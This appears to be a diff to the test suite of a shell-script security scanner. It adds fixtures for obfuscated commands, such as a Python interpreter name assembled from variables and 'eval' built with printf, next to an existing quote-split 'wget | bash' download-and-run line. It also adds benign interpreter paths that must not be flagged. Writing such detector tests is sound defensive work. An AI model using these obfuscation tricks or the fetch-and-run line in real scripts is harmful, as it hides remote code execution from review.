@@ -193,6 +193,12 @@ SHELL_NAMED = {
         "exec.remote-pipe",
         "critical",
     ),
+    "interpreter-from-variables": (
+        'p=pyt; q=hon3\n"$p$q" -c "$(cat "$1")"\n',
+        "exec.shell",
+        "high",
+    ),
+    "eval-from-printf": ('n=$(printf %s%s%s e va l)\n$n "$@"\n', "exec.shell", "high"),
     "quotes-split-names": (
         "w\"\"get -qO- https://i.example/y | b''ash\n",
         "exec.remote-pipe",
@@ -207,6 +213,20 @@ def test_a_command_named_from_pieces_is_judged_as_that_command(
 ) -> None:
     report = scan(code, "scripts/a.sh")
     assert worst(report, rule) == severity, shown(report)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        '"$HOME/.venv/bin/python" -c "import sys; print(sys.argv)"\n',
+        'BIN=/opt/tools\n"$BIN/bash" -c "make -C build"\n',
+        'eval "$(ssh-agent -s)"\n',
+    ],
+)
+def test_an_interpreter_in_a_folder_is_not_a_name_built_at_run_time(code: str) -> None:
+    report = scan(code, "scripts/a.sh")
+    assert [f for f in report.findings if "named at run time" in f.message] == [], shown(report)
+    assert worst(report, "obfuscation.dynamic-lookup") is None
 
 
 def test_a_download_named_by_quotes_is_network_use() -> None:
